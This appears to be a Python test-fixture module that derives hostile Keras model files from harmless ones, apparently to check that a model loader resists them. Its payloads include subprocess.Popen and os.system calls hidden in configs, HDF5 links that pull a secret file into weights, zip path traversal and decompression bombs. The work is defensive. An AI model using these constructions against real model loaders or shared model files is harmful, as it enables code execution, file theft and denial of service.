"""Model files that a stranger could have made to do harm, derived from two harmless ones.

    write(kind, base, path, secret)

`KINDS` names the kinds; see there what each tries. `base` is the harmless file, a `.keras` or `.h5`
of tf_keras or Keras 3; `path` is where the hostile one goes. `secret` is a file whose bytes must
never become weights. Whoever runs code of a file leaves a file PWNED beside it.
"""

import io
import json
import zipfile

import h5py
import numpy as np


def _layer(config, kind):
    return next(layer for layer in config['config']['layers'] if layer['class_name'] == kind)


def _popen(path):
    touch = {'args': f'touch {path.parent / "PWNED"}', 'shell': True}
    return {'module': 'subprocess', 'class_name': 'Popen', 'config': touch}


def _function(module, name):
    return {'module': module, 'class_name': 'function', 'config': name, 'registered_name': name}


def _activation(module, name):
    def edit(config, path, secret):
        _layer(config, 'Conv2D')['config']['activation'] = _function(module, name)

    return edit


def _in_place_of_a_layer(new):
    def edit(config, path, secret):
        _layer(config, 'ReLU').update(new(path, secret))

    return edit


def _setting(kind, **settings):
    def edit(config, path, secret):
        _layer(config, kind)['config'].update(settings)

    return edit


def _initializer(config, path, secret):
    _layer(config, 'Conv2D')['config']['kernel_initializer'] = _popen(path)


def _model_class(config, path, secret):
    config.update(_popen(path))


def _compiled(config, path, secret):
    config['compile_config'] = {'loss': _popen(path), 'optimizer': 'adam'}


def _get_file(path, secret):
    settings = {'fname': 'x', 'origin': f'file://{secret}', 'cache_dir': str(path.parent)}
    return {'module': 'keras.utils', 'class_name': 'get_file', 'config': settings}


def _vocabulary(path, secret):
    settings = {'name': 's', 'vocabulary': str(secret)}
    return {'module': 'keras.layers', 'class_name': 'StringLookup', 'config': settings}


def _torch(path, secret):
    settings = {'name': 't', 'module': 'gASVAA=='}
    return {'module': 'keras.layers', 'class_name': 'TorchModuleWrapper', 'config': settings}


def _upsampling(path, secret):
    settings = {'name': 'u', 'size': [60000, 60000], 'interpolation': 'nearest'}
    return {'module': 'keras.layers', 'class_name': 'UpSampling2D', 'config': settings}


def _deep(text):
    return '{"a":' * 100_000 + '1' + '}' * 100_000


# Changes of the configuration: code that would run, files that would be read, memory.
CONFIGURATIONS = {
    'function of os': _activation('os', 'system'),
    'function of Python': _activation('builtins', 'eval'),
    'function that asks': _activation('builtins', 'input'),
    'function of Keras that loads': _activation('keras.models', 'load_model'),
    'function that switches checks off': _activation(
        'keras.config', 'enable_unsafe_deserialization'
    ),
    'activation that is a huge layer': _activation(
        'builtins',
        {
            'module': 'keras.layers',
            'class_name': 'Dense',
            'config': {'units': 2_000_000},
            'build_config': {'input_shape': [None, 2_000]},
        },
    ),
    'layer that is a switch': _in_place_of_a_layer(
        lambda path, secret: _function('keras.config', 'enable_unsafe_deserialization')
    ),
    'download': _in_place_of_a_layer(_get_file),
    'vocabulary': _in_place_of_a_layer(_vocabulary),
    'pickle': _in_place_of_a_layer(_torch),
    'initializer': _initializer,
    'class of the model': _model_class,
    'compile settings': _compiled,
    'huge layer': _setting('Dense', units=2_000_000_000),
    'huge number': _setting('Dense', units=10**30),
    'layer larger than the file': _setting('Dense', units=2_000_000),
    'huge image': _in_place_of_a_layer(_upsampling),
}


def _smallest(file):
    """The name of a dataset of four numbers."""
    found = []
    file.visititems(lambda n, x: found.append(n) if getattr(x, 'shape', None) == (4,) else None)
    return found[0]


def _external_storage(file, path, secret):
    name = _smallest(file)
    del file[name]
    file.create_dataset(name, shape=(4,), dtype='f4', external=[(str(secret), 0, 16)])


def _replaced_by(make):
    def edit(file, path, secret):
        name = _smallest(file)
        with h5py.File(path.parent / 'secret.h5', 'w') as other:
            other['x'] = np.frombuffer(secret.read_bytes()[:16], 'f4')
        del file[name]
        make(file, name, str(path.parent / 'secret.h5'))

    return edit


def _external_link(file, name, other):
    file[name] = h5py.ExternalLink(other, 'x')


def _soft_link_to_a_link(file, name, other):
    file['elsewhere'] = h5py.ExternalLink(other, '/')
    file[name] = h5py.SoftLink('/elsewhere/x')


def _virtual(file, name, other):
    layout = h5py.VirtualLayout(shape=(4,), dtype='f4')
    layout[:] = h5py.VirtualSource(other, 'x', shape=(4,))
    file.create_virtual_dataset(name, layout)


def _linked_group(file, path, secret):
    """A whole group, at the top: all weights."""
    with h5py.File(path.parent / 'secret.h5', 'w') as other:
        file.copy(file, other, name='all')
    name = next(iter(file))
    del file[name]
    file[name] = h5py.ExternalLink(str(path.parent / 'secret.h5'), f'/all/{name}')


def _circle(file, path, secret):
    file['circle'] = file['/']
    file.create_group('a')['b'] = file['/']


def _many(file, path, secret):
    """Terabytes of zeros that take no place."""
    name = _smallest(file)
    del file[name]
    file.create_dataset(name, shape=(2**40,), dtype='f4', chunks=(2**20,), compression='gzip')


def _some(file, path, secret):
    """A gigabyte, which the machine has."""
    name = _smallest(file)
    del file[name]
    file.create_dataset(name, shape=(2**28,), dtype='f4', chunks=(2**20,), compression='gzip')


# Changes of the HDF5 file of weights.
WEIGHTS = {
    'external storage': _external_storage,
    'external link': _replaced_by(_external_link),
    'soft link to an external link': _replaced_by(_soft_link_to_a_link),
    'virtual dataset': _replaced_by(_virtual),
    'external link to a group': _linked_group,
    'circle of hard links': _circle,
    'dataset of terabytes': _many,
    'dataset of a gigabyte': _some,
}


def _bomb(members, path):
    members['model.weights.h5'] = bytes(300 * 2**20)


def _traversal(members, path):
    members['../../PWNED'] = members['assets/../../PWNED'] = b'x'
    members[str(path.parent / 'PWNED')] = b'x'


def _other_members(members, path):
    members['assets/bomb'] = bytes(300 * 2**20)


# Changes of the archive.
ARCHIVES = {
    'weights that unpack to much': _bomb,
    'members that climb': _traversal,
    'another member that unpacks to much': _other_members,
}

KINDS = (*CONFIGURATIONS, *WEIGHTS, *ARCHIVES, 'deep configuration')
# They do nothing: what they bring is never looked at.
MAY_LOAD = (
    'compile settings',
    'circle of hard links',
    'members that climb',
    'another member that unpacks to much',
)


def write(kind, base, path, secret):
    """Writes the hostile file of a kind; see the module."""
    if path.suffix == '.h5':
        path.write_bytes(base.read_bytes())
        with h5py.File(path, 'a') as file:
            if kind in WEIGHTS:
                WEIGHTS[kind](file, path, secret)
            else:
                file.attrs['model_config'] = _edited(kind, file.attrs['model_config'], path, secret)
        return
    with zipfile.ZipFile(base) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    if kind in ARCHIVES:
        ARCHIVES[kind](members, path)
    elif kind in WEIGHTS:
        buffer = io.BytesIO(members['model.weights.h5'])
        with h5py.File(buffer, 'a') as file:
            WEIGHTS[kind](file, path, secret)
        members['model.weights.h5'] = buffer.getvalue()
    else:
        members['config.json'] = _edited(kind, members['config.json'], path, secret)
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _edited(kind, text, path, secret):
    if kind == 'deep configuration':
        return _deep(text)
    config = json.loads(text)
    CONFIGURATIONS[kind](config, path, secret)
    return json.dumps(config)
